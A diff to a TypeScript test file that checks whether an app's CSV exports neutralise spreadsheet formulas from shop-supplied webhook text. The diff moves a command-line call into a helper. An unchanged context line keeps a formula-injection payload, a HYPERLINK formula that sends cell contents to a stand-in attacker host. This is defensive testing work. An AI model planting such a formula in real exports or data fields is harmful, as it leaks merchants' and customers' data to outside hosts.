@@ -1,10 +1,9 @@
-import { spawnSync } from "node:child_process";
-import path from "node:path";
 import { parse } from "csv-parse/sync";
 import { beforeAll, describe, expect, test } from "vitest";
 import { dayFromIsoDate } from "../../app/profiles/days";
 import { runFullPass } from "../../app/profiles/full-pass.server";
 import { adminRequest, appUnderTest, installTestShop, webhookRequest, type AppUnderTest } from "../support/app-under-test";
+import { cadenceCli } from "../support/cadence-cli";
 import { orderObject } from "../support/webhook-payloads";
 
 // A product type is shop-supplied text that reaches Cadence in order webhooks and leaves it in CSV files a merchant
@@ -12,7 +11,6 @@ import { orderObject } from "../support/webhook-payloads";
 // in the admin's segment export and in `cadence export`, while amounts stay numbers.
 
 const SHOP = "csv-injection.myshopify.com";
-const ROOT = path.resolve(import.meta.dirname, "..", "..");
 const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
 // One customer per formula start OWASP names; the product type is the customer's only one, so it starts the cell.
 const PRODUCT_TYPES: Record<string, string> = {
@@ -77,11 +75,7 @@ describe("CSV exports neutralise spreadsheet formulas from webhooks", () => {
   // `cadence export` runs as its own process against the test's database, which only PostgreSQL can share.
   test("`cadence export customers`", async ({ skip }) => {
     if (app.engine !== "postgres") skip("the CLI process needs the shared PostgreSQL database");
-    const result = spawnSync(path.join(ROOT, "node_modules", ".bin", "tsx"), ["scripts/cadence.ts", "export", "customers", "--shop", SHOP], {
-      cwd: ROOT,
-      encoding: "utf8",
-      env: { ...process.env, CADENCE_LOG_LEVEL: "silent" },
-    });
+    const result = cadenceCli("export", "customers", "--shop", SHOP);
     expect(result.stderr).toBe("");
     expect(result.status).toBe(0);
     const rows = parseCsv(result.stdout);
